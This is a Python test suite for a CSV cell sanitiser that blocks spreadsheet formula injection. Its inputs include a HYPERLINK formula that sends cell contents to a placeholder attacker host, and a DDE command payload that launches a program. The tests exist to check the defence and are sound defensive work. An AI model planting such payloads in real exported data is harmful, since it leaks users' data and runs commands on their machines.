"""No text of a person becomes a formula in the spreadsheet of another."""

import csv
import io
import time
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.csv_cells import safe_cell

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"see")'
BEGINNINGS = ("=", "+", "-", "@", "\N{FULLWIDTH EQUALS SIGN}", "\N{FULLWIDTH PLUS SIGN}", "\N{FULLWIDTH HYPHEN-MINUS}")
UNSEEN = ("", " ", "   ", "\N{NO-BREAK SPACE}", "\ufeff", "\N{ZERO WIDTH SPACE}", '"', "'", " \t", "\r", "\n", "\r\n")


@pytest.mark.parametrize("unseen", UNSEEN)
@pytest.mark.parametrize("begins", BEGINNINGS)
def test_a_formula_is_text(begins: str, unseen: str) -> None:
    text = f"{unseen}{begins}cmd|' /C calc'!A0"
    assert safe_cell(text).startswith("'")
    assert safe_cell(text).replace("'", "") == text.replace("'", "")  # nothing else is changed


@pytest.mark.parametrize("text", ["Lunch", "a = b", "Tea - with milk", "user@example.com", "1+1", "", "x", "naïve"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-12, "-12"),
        (Decimal("-0.10"), "-0.10"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        (None, ""),
        ("-1+1", "'-1+1"),
        ("-", "'-"),
        ("+1 (555) 0100", "'+1 (555) 0100"),
    ],
)
def test_numbers_stay_numbers(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


@pytest.mark.parametrize("end", [";", "\t", "\n", "\r\n"])
def test_a_spreadsheet_that_splits_elsewhere_finds_no_formula_either(end: str) -> None:
    """Where the decimal sign is a comma, a double click splits at semicolons, and quotes within a line mean nothing."""
    line = io.StringIO()
    csv.writer(line).writerow(["2026-01-02", safe_cell(f"Lunch{end}{FORMULA}")])
    cells = [cell for row in line.getvalue().splitlines() for part in row.split(";") for cell in part.split("\t")]
    assert not any(cell.strip(" \"'").startswith("=") and not cell.startswith("'") for cell in cells)


@given(st.text(alphabet=" \t\r\n;'\"=+-@a1\u200b\uff1d", max_size=40))
def test_whatever_is_written_is_read_back_but_for_apostrophes(text: str) -> None:
    line = io.StringIO(newline="")
    csv.writer(line).writerow(["x", safe_cell(text)])
    read = next(csv.reader(io.StringIO(line.getvalue(), newline="")))[1]
    assert read.replace("'", "") == text.replace("'", "")
    assert not read[:1] or read[0] not in "=@\t\r\n\uff1d"


@pytest.mark.parametrize("unit", [" ", "'", "\n", ";", "=", '"\t', "; "])
def test_the_time_grows_with_the_text_alone(unit: str) -> None:
    started = time.perf_counter()
    safe_cell(unit * (1_000_000 // len(unit)))
    assert time.perf_counter() - started < 3
